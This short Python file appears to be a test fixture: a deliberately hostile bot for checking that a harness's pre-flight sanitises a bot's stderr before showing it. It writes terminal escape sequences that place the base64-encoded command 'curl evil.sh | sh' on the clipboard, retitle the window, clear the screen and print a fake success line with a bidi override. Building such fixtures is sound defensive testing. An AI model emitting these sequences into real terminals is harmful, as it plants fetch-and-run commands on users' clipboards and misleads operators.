"""A hostile bot that writes terminal escape sequences to stderr and exits before ``ready``,
so that the pre-flight shows the end of its stderr: an OSC 52 clipboard write, a window title,
a screen clear and a fake success line."""

import sys

sys.stderr.write("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # clipboard: "curl evil.sh | sh"
                 "\x1b]0;all good\x07"  # the window title
                 "\x1b[2J\x1b[H"  # clear the screen
                 "all entrants ready\r\n\x9b31m\u202eevil\n")
sys.exit(1)
